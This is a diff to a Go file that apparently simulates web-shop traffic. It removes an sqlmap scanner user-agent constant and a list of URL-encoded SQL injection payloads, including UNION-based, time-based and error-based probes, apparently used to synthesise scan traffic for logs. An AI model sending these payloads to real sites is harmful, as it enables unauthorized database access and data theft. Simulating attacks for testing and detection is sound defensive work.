@@ -36,8 +36,6 @@ var (
 	}
 )
 
-const scanner = "sqlmap/1.9.4#stable (https://sqlmap.org)"
-
 // userAgents makes n distinct browsers, the popular ones first.
 func userAgents(n int) []string {
 	agents := make([]string, 0, n)
@@ -124,12 +122,4 @@ func (s *Shop) buildVisitors() {
 type asset struct {
 	path string
 	size int64
-}
-
-// payloads are what a scan for SQL injection sends.
-var payloads = []string{
-	"id=1%27%20OR%20%271%27=%271", "id=1%27--", "id=1%27%20UNION%20SELECT%20NULL,NULL,NULL--", "id=1%20AND%201=1", "id=1%20AND%201=2",
-	"id=1%27%20AND%20SLEEP(5)--%20-", "id=-4711%27%20UNION%20ALL%20SELECT%20CONCAT(0x7171,version(),0x7178)--", "id=1;SELECT%20pg_sleep(5)--",
-	"id=1%27%20AND%20(SELECT%202*(IF((SELECT%20*%20FROM%20(SELECT%20CONCAT(0x71,0x62))s),8446744073709551610,8446744073709551610)))--",
-	"q=%27)%20ORDER%20BY%2010--", "q=%27||(SELECT%20table_name%20FROM%20information_schema.tables%20LIMIT%201)||%27", "id=1%27%20WAITFOR%20DELAY%20%270:0:5%27--",
 }
